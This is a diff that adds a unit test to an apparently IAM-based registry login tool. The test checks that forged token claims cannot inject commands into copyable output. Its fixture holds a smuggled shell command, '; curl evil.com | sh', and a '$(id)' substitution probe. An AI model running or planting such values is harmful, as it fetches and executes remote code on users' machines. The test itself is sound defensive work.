@@ -263,6 +263,22 @@ test.each(['down', 'slow'])(
   },
 )
 
+test('what answers in IAM’s place puts nothing into a command that somebody copies', async () => {
+  credentials = { ...credentials, apiKey: newApiKey() }
+  const claims = Buffer.from(JSON.stringify({ iam_id: 'iam-ServiceId-1; curl evil.com | sh' })).toString(
+    'base64url',
+  )
+  testbed.fault(({ path }) => {
+    if (path === '/identity/token') return { status: 200, body: { access_token: `e.${claims}.s` } }
+    return path === '/identity/profiles' ? { status: 200, body: { profiles: [{ id: '$(id)' }] } } : undefined
+  })
+  const step = await login('docker')
+  expect(step.annotations).toMatchObject([
+    { kind: 'error', message: expect.stringContaining('IAM could not be asked why.') },
+  ])
+  expect(step.log).not.toContain('evil.com')
+})
+
 test('private domains: IAM is asked by its private host', async () => {
   credentials = { ...credentials, apiKey: newApiKey() }
   await login('docker', { region: 'private.us.icr.io' })
